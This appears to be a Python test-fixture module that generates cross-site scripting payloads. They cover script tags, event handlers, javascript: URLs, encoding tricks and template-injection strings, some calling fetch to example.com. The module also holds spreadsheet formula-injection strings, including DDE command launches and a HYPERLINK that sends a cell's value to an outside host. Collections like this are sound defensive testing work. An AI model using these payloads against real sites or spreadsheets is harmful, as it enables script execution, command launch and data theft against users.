"""Texts that would run as a script or as a formula wherever somebody forgot to escape them."""

from __future__ import annotations

MARK = "evh"  # an attribute that no page of ours has: whatever bears it came from a payload
CALLS = ("alert(1)", "window.hit=1", "top['al'+'ert'](1)", "fetch('//example.com')")
TEMPLATES = (
    "<script evh>{call}</script>",
    "<ScRiPt evh>{call}</sCrIpT>",
    "<script evh src=data:,{call}></script>",
    "<script evh>{call}//",
    '"><script evh>{call}</script>',
    "'><script evh>{call}</script>",
    "</title><script evh>{call}</script>",
    "</textarea><script evh>{call}</script>",
    "</script><script evh>{call}</script>",
    "</style><script evh>{call}</script>",
    "--><script evh>{call}</script>",
    "]]><script evh>{call}</script>",
    "<img evh src=x onerror={call}>",
    '"><img evh src=x onerror={call}>',
    "<img evh src=x onerror={call} x='",
    '" evh autofocus onfocus={call} x="',
    "' evh onmouseover={call} x='",
    "x evh onclick={call} y",
    "<svg evh onload={call}>",
    "<svg><animate evh onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><img evh src=x onerror={call}></mtext></math>",
    "<details evh open ontoggle={call}>",
    "<body evh onload={call}>",
    "<iframe evh srcdoc='<script>{call}</script>'></iframe>",
    "<a evh href=javascript:{call}>x</a>",
    '<a evh href="java\tscript:{call}">x</a>',
    "<form evh action=javascript:{call}><input type=submit>",
    "<base evh href=javascript:{call}//>",
    "<meta evh http-equiv=refresh content='0;url=javascript:{call}'>",
    "<style evh>@import 'javascript:{call}';</style>",
    "{{{{ {call} }}}}<b evh>",
    "{{% print({call}) %}}<b evh>",
    "javascript:{call}",
    "\u2028<img evh src=x onerror={call}>",
    "\x00<script evh>{call}</script>",
    "&lt;img evh src=x onerror={call}&gt;<i evh>",
    "%3Cscript evh%3E{call}%3C/script%3E<i evh>",
    "<\u0131mg evh src=x onerror={call}><p evh>",
)
SCRIPTS = tuple(template.format(call=call) for template in TEMPLATES for call in CALLS)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
)
PAYLOADS = SCRIPTS + FORMULAS
